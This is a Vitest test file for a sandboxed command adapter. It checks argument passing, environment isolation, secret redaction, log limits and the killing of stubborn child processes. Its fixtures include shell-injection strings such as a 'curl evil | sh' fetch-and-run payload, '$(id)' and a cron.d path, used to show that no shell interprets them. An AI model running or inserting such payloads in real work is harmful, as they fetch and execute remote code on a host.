import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { makeAgent, makeCall } from '../../../tests/agents/make-call.ts';
import { cleanOutput } from '../core/clean-output.ts';
import type { AgentCall } from './adapter.ts';
import { createCommandAdapter } from './command.ts';
import { endOrphanCommands } from './end-orphan-commands.ts';
import { DEFAULT_LIMITS } from './limits.ts';
import { listProcesses, MARK_VARIABLE } from './process-table.ts';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'command-test-'));
});
afterAll(() => rm(dir, { recursive: true }));

const rules = (overrides: Partial<Parameters<typeof createCommandAdapter>[0]> = {}) => ({
  cleanOutput,
  limits: { ...DEFAULT_LIMITS, killGraceMs: 300 },
  allowed: true,
  installationDir: dir,
  environment: { PATH: process.env.PATH ?? '', LANG: 'C.UTF-8', TZ: 'UTC' },
  ...overrides,
});
const node = (script: string, ...args: string[]) => makeAgent('command', { argv: [process.execPath, '-e', script, ...args], env: {} });
const run = (agent: ReturnType<typeof node>, call: AgentCall = makeCall(), limits = rules()) =>
  createCommandAdapter(limits).call(agent, call);

async function outputOf(agent: ReturnType<typeof node>, call: AgentCall = makeCall()): Promise<unknown> {
  const answer = await run(agent, call);
  return answer.kind === 'completed' ? JSON.parse(answer.outputText) : answer;
}

/** The living processes whose command line holds the word. */
async function livingWith(word: string): Promise<number[]> {
  const entries = await listProcesses();
  const lines = await Promise.all(entries.map(({ pid }) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')));
  return entries.filter((_, index) => lines[index]?.includes(word)).map((entry) => entry.pid);
}

test('[A5] the task arrives as one JSON document on stdin', async () => {
  const call = makeCall({ input: { a: [1, '"; curl evil | sh; #'] }, context: { b: null } });
  expect(await outputOf(node('process.stdin.pipe(process.stdout)'), call)).toEqual({
    task_id: call.taskId,
    run_id: call.runId,
    attempt: 1,
    fence: 3,
    idempotency_key: 'key-1',
    task_type: 'review',
    name: 'Review the code',
    description: 'Look for faults.',
    input: { a: [1, '"; curl evil | sh; #'] },
    context: { b: null },
  });
});

test('[A5] arguments are passed as they are, no shell reads them', async () => {
  const hostile = ['"; curl evil | sh; #', '$(id)', '`id`', '--output=/etc/cron.d/x', 'a\nb', '*', '~', '%PATH%', ''];
  expect(await outputOf(node('console.log(JSON.stringify(process.argv.slice(1)))', '--', ...hostile))).toEqual(hostile);
});

test('[A6] the environment holds what is listed and nothing else', async () => {
  process.env.HIVE_TEST_SECRET = 'postgres://secret';
  const agent = node('console.log(JSON.stringify(process.env))');
  agent.config.env = { GREETING: 'hello', HIVE_TASK_ID: 'mine' };
  const call = makeCall();
  const seen = (await outputOf(agent, call)) as Record<string, string>;
  delete process.env.HIVE_TEST_SECRET;
  const allowed = [
    'PATH',
    'LANG',
    'TZ',
    'HOME',
    'TMPDIR',
    'GREETING',
    'HIVE_TASK_ID',
    'HIVE_RUN_ID',
    'HIVE_ATTEMPT',
    'HIVE_IDEMPOTENCY_KEY',
  ];
  expect(Object.keys(seen).filter((name) => ![...allowed, MARK_VARIABLE].includes(name))).toEqual([]);
  expect(seen).toMatchObject({
    GREETING: 'hello',
    HIVE_TASK_ID: call.taskId,
    HIVE_RUN_ID: call.runId,
    HIVE_ATTEMPT: '1',
    HIVE_IDEMPOTENCY_KEY: 'key-1',
  });
  expect(seen.HOME).not.toBe(process.env.HOME);
});

test('[A6] the scratch directory is gone after the call, whatever it holds', async () => {
  const script =
    'const fs = require("fs"); fs.mkdirSync(process.env.HOME + "/a/b", { recursive: true }); fs.symlinkSync("/", process.env.HOME + "/a/root"); console.log(JSON.stringify(process.env.HOME))';
  const home = (await outputOf(node(script))) as string;
  await expect(readdir(home)).rejects.toMatchObject({ code: 'ENOENT' });
});

test('[A6] a relative working directory starts at the installation', async () => {
  const agent = node('console.log(JSON.stringify(process.cwd()))');
  expect(await outputOf(agent)).toBe(dir);
  agent.config.cwd = '..';
  expect(await outputOf(agent)).toBe(path.dirname(dir));
});

test('[A7] stderr streams into the log while the command works, with its colours and no other terminal sequences', async () => {
  const stop = new AbortController();
  const call = makeCall({ signal: stop.signal });
  const calling = run(node(String.raw`process.stderr.write('\x1b[2K\x1b[31mred\x1b[0m \x07alert\r\n'); setInterval(() => {}, 1000)`), call);
  expect(await call.firstLine).toBe('\u001b[31mred\u001b[0m alert');
  stop.abort();
  await calling;
});

test('[A7] a log line is cut at its limit and the log ends with one notice', async () => {
  const call = makeCall();
  const limits = { ...DEFAULT_LIMITS, logLines: 3, logLineLength: 5 };
  await run(node('console.error("abcdefghijkl\\n1\\n2\\n3")'), call, rules({ limits }));
  expect(call.logged.map((line) => line.text)).toEqual(['abcde', 'fghij', 'kl', 'more than 3 lines: the rest is not kept']);
});

test('[A7] a failed command keeps its last 20 lines of stderr and its exit code', async () => {
  const answer = await run(node('for (let i = 1; i <= 30; i++) console.error("line " + i); process.exitCode = 7'));
  expect(answer).toMatchObject({
    kind: 'failed',
    error: {
      code: 'exit_code',
      retryable: true,
      detail: { exit_code: 7, stderr: Array.from({ length: 20 }, (_, index) => `line ${index + 11}`) },
    },
  });
});

test('[A7] a secret variable is not said in log, error or output', async () => {
  const agent = node('console.error("key " + process.env.API_KEY); console.log(JSON.stringify({ key: process.env.API_KEY }))');
  agent.config.env = { API_KEY: 'sk-very"secret' };
  const call = makeCall();
  expect(await outputOf(agent, call)).toEqual({ key: '[redacted]' });
  expect(call.logged).toEqual([{ stream: 'stderr', text: 'key [redacted]' }]);
});

test('[A8] a command that does not read its input completes', async () => {
  const call = makeCall({ input: 'x'.repeat(5_000_000) });
  expect(await outputOf(node('process.stdin.destroy(); console.log("1")'), call)).toBe(1);
});

test('[A8] what cannot be started says so and is not tried again', async () => {
  await writeFile(path.join(dir, 'plain.txt'), 'no program');
  for (const argv of [['no-such-program-here'], [path.join(dir, 'plain.txt')], ['a\0b'], ['']]) {
    expect(await run(makeAgent('command', { argv, env: {} }))).toMatchObject({
      kind: 'failed',
      error: { code: 'spawn_failed', retryable: false },
    });
  }
});

test('[A8] nothing is started when command agents are switched off', async () => {
  const file = path.join(dir, 'started');
  const agent = node(`require("fs").writeFileSync(${JSON.stringify(file)}, "")`);
  expect(await run(agent, makeCall(), rules({ allowed: false }))).toMatchObject({
    kind: 'failed',
    error: { code: 'command_agents_disabled', retryable: false },
  });
  await expect(readFile(file)).rejects.toMatchObject({ code: 'ENOENT' });
});

test("[A8] the agent's own time limit counts when it is the shorter one", async () => {
  const agent = node('setInterval(() => {}, 1000)');
  agent.config.timeout_seconds = 0.1;
  expect(await run(agent)).toMatchObject({ kind: 'failed', error: { code: 'timeout', message: 'no result within 100 ms' } });
});

// Each says its first line on stderr when everything has been started. The word stands in the command lines.
const stubborn: [string, (word: string) => string][] = [
  ['ignores SIGTERM', (word) => `process.on("SIGTERM", () => {}); console.error("${word}"); setInterval(() => {}, 1000)`],
  [
    'has children',
    (word) =>
      `require("child_process").spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", "${word}"]).on("spawn", () => console.error("up")); setInterval(() => {}, 1000)`,
  ],
  [
    'has a child in a session of its own',
    (word) =>
      `require("child_process").spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", "${word}"], { detached: true, stdio: "ignore" }).on("spawn", () => console.error("up")); setInterval(() => {}, 1000)`,
  ],
  [
    'has a child that clears its environment',
    (word) =>
      `require("child_process").spawn(process.execPath, ["-e", "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000)", "${word}"], { detached: true, stdio: "ignore", env: {} }).on("spawn", () => console.error("up")); setInterval(() => {}, 1000)`,
  ],
  [
    'keeps forking',
    (word) =>
      `const { spawn } = require("child_process"); process.on("SIGTERM", () => {}); setInterval(() => spawn("/bin/sh", ["-c", "trap '' TERM; sleep 1000; echo ${word}"], { detached: true, stdio: "ignore" }), 5); setTimeout(() => console.error("up"), 100)`,
  ],
  [
    'floods stdout',
    (word) =>
      `console.error("${word}"); const c = "x".repeat(1e6); const more = () => { while (process.stdout.write(c)); process.stdout.once("drain", more); }; more()`,
  ],
];

test.each(stubborn)('[A9] of a command that %s nothing is left after an abort', async (title, script) => {
  // Its own for every run of the tests: one that was killed half-way may have left such a process behind.
  const word = `stubborn-${process.pid}-${title.replaceAll(' ', '-')}`;
  const stop = new AbortController();
  const call = makeCall({ signal: stop.signal });
  const calling = run(node(script(word), word), call);
  await call.firstLine;
  stop.abort();
  await calling;
  expect(await livingWith(word)).toEqual([]);
});

test('[A9] what a command leaves behind ends with it, and its result counts', async () => {
  const word = 'left-behind';
  const left = (detached: boolean, stdio: string) =>
    `require("child_process").spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", "${word}"], { detached: ${detached}, stdio: "${stdio}" }).unref();`;
  const script = `${left(true, 'ignore')} ${left(true, 'inherit')} ${left(false, 'inherit')} console.log("1"); setImmediate(() => process.exit(0))`;
  expect(await outputOf(node(script))).toBe(1);
  expect(await livingWith(word)).toEqual([]);
});

test('[A10] the commands of a dead worker are ended, those of a living one are not', async () => {
  const start = (mark: string) => {
    const env = { PATH: process.env.PATH, [MARK_VARIABLE]: mark } as unknown as NodeJS.ProcessEnv;
    return spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore', env });
  };
  const self = (await listProcesses()).find((entry) => entry.pid === process.pid);
  const uuid = '018f0000-0000-7000-8000-000000000000';
  const owned = start(`${process.pid}-${self?.startedAt}-${uuid}`);
  const orphan = start(`${process.pid}-1-${uuid}`);
  const unmarked = start('another mark');
  await Promise.all([once(owned, 'spawn'), once(orphan, 'spawn'), once(unmarked, 'spawn')]);
  const gone = once(orphan, 'exit');
  await endOrphanCommands();
  expect(['SIGTERM', 'SIGKILL']).toContain((await gone)[1]);
  const living = (await listProcesses()).map((entry) => entry.pid);
  expect(living).toContain(owned.pid);
  expect(living).toContain(unmarked.pid);
  for (const child of [owned, unmarked]) {
    const ended = once(child, 'exit');
    child.kill('SIGKILL');
    await ended;
  }
});

test('[A17] a command that is silent for too long counts as hung, and is ended; one that talks is not', async () => {
  const impatient = (script: string, seconds: number) => {
    const agent = node(script);
    return run({ ...agent, config: { ...agent.config, idle_timeout_seconds: seconds } });
  };
  expect(await impatient('setInterval(() => {}, 1000)', 0.3)).toMatchObject({
    kind: 'failed',
    error: { code: 'idle_timeout', retryable: true, detail: { processes_left: 0 } },
  });
  const talks = `let n = 0; const t = setInterval(() => { console.error('on it'); if (++n === 8) { clearInterval(t); console.log('1') } }, 500)`;
  expect(await impatient(talks, 3)).toMatchObject({ kind: 'completed' });
});
